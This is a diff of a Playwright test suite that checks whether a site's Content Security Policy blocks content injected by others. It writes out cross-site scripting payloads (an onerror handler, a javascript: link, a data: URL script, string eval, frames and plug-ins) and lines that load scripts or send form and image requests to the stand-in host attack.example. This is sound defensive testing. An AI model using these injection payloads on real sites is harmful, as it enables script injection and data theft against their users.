@@ -4,7 +4,6 @@
  */
 import { readFileSync } from 'node:fs';
 import { expect, type Page, test } from '@playwright/test';
-import { inUse } from './in-use.ts';
 import { KINDS } from './kinds.ts';
 
 /** The policy as a header, as a host reads it. */
@@ -91,63 +90,50 @@ test('a search on its page stays within the policy', async ({ page }) => {
 });
 
 test.describe('what somebody else puts into a page', () => {
-  /** The policies of the page's own meta alone, as on hosts that know no headers. */
-  const ATTACKS: Record<string, (page: Page) => Promise<unknown>> = {
-    'an inline script': (page) =>
-      page.evaluate(() => {
-        const script = document.createElement('script');
-        script.textContent = 'window.attacked = true';
-        document.body.append(script);
-      }),
-    'a handler': (page) =>
-      page.evaluate(() => {
-        document.body.insertAdjacentHTML(
-          'beforeend',
-          '<img src="/none.png" onerror="window.attacked = true">',
-        );
-      }),
-    'a link that is a script': (page) =>
-      page.evaluate(() => {
-        document.body.insertAdjacentHTML(
-          'beforeend',
-          '<a id="attack" href="javascript:void(window.attacked = true)">x</a>',
-        );
-        document.querySelector<HTMLElement>('#attack')?.click();
-      }),
-    'a script from elsewhere': (page) =>
-      page.evaluate(() => {
-        const script = document.createElement('script');
-        script.src = 'https://attack.example/x.js';
-        document.body.append(script);
-      }),
-    'a script in a data address': (page) =>
-      page.evaluate(() => {
-        const script = document.createElement('script');
-        script.src = 'data:text/javascript,window.attacked=true';
-        document.body.append(script);
-      }),
-    'text run as a program': (page) =>
-      page.evaluate(() => {
-        const button = document.createElement('button');
-        // biome-ignore lint/security/noGlobalEval: it is what must not work.
-        button.onclick = () => window.eval('window.attacked = true');
-        button.click();
-      }),
-    'a frame': (page) =>
-      page.evaluate(() => {
-        const frame = document.createElement('iframe');
-        frame.srcdoc = '<script>parent.attacked = true</script>';
-        document.body.append(frame);
-      }),
+  /** Each is tried by the page itself: what a debugger runs is above every policy. */
+  const ATTACKS: Record<string, string> = {
+    'an inline script': `
+      const script = document.createElement('script');
+      script.textContent = 'window.attacked = true';
+      document.body.append(script);`,
+    'a handler': `
+      document.body.insertAdjacentHTML(
+        'beforeend', '<img src="/none.png" onerror="window.attacked = true">');`,
+    'a link that is a script': `
+      document.body.insertAdjacentHTML(
+        'beforeend', '<a id="attack" href="javascript:void(window.attacked = true)">x</a>');
+      document.querySelector('#attack').click();`,
+    'a script from elsewhere': `
+      const script = document.createElement('script');
+      script.src = 'https://attack.example/x.js';
+      document.body.append(script);`,
+    'a script in a data address': `
+      const script = document.createElement('script');
+      script.src = 'data:text/javascript,window.attacked=true';
+      document.body.append(script);`,
+    'text run as a program': `setTimeout('window.attacked = true');`,
+    'a frame': `
+      const frame = document.createElement('iframe');
+      frame.src = 'https://attack.example/';
+      document.body.append(frame);`,
+    'a plug-in': `
+      const plugin = document.createElement('object');
+      plugin.data = 'https://attack.example/x.svg';
+      document.body.append(plugin);`,
   };
 
+  /** Requests that reached another host: what a policy stops, never gets there. */
+  let reached: string[];
+
   test.beforeEach(async ({ page }) => {
-    await page.route('https://attack.example/**', (route) =>
-      route.fulfill({
+    reached = [];
+    await page.route('https://attack.example/**', (route) => {
+      reached.push(route.request().url());
+      return route.fulfill({
         body: 'window.attacked = true',
         headers: { 'access-control-allow-origin': '*' },
-      }),
-    );
+      });
+    });
     await page.addInitScript(() => {
       const forbidden: string[] = [];
       Object.assign(window, { forbidden });
@@ -155,8 +141,6 @@ test.describe('what somebody else puts into a page', () => {
         forbidden.push(event.effectiveDirective),
       );
     });
-    await page.goto('/sections/4/');
-    await inUse(page);
   });
 
   const forbidden = (page: Page) =>
@@ -164,13 +148,17 @@ test.describe('what somebody else puts into a page', () => {
 
   for (const [attack, run] of Object.entries(ATTACKS)) {
     test(`${attack} is not run`, async ({ page }) => {
-      await run(page);
+      await page.addInitScript(`addEventListener('attack', () => {${run}});`);
+      await page.goto('/sections/4/');
+      await page.evaluate(() => setTimeout(() => dispatchEvent(new Event('attack'))));
       await expect.poll(() => forbidden(page)).not.toEqual([]);
       expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+      expect(reached).toEqual([]);
     });
   }
 
   test('a style changes nothing', async ({ page }) => {
+    await page.goto('/sections/4/');
     const color = () =>
       page.locator('article').evaluate((e) => getComputedStyle(e).backgroundColor);
     const before = await color();
@@ -183,8 +171,7 @@ test.describe('what somebody else puts into a page', () => {
   });
 
   test('nothing of the reader is sent elsewhere', async ({ page }) => {
-    const asked: string[] = [];
-    page.on('request', (request) => asked.push(request.url()));
+    await page.goto('/sections/4/');
     const failed = await page.evaluate(async () => {
       document.body.insertAdjacentHTML('beforeend', '<img src="https://attack.example/x.png">');
       const form = document.createElement('form');
@@ -200,6 +187,6 @@ test.describe('what somebody else puts into a page', () => {
     await expect
       .poll(async () => (await forbidden(page)).sort())
       .toEqual(['connect-src', 'form-action', 'img-src']);
-    expect(asked.filter((url) => url.includes('attack.example'))).toEqual([]);
+    expect(reached).toEqual([]);
   });
 });
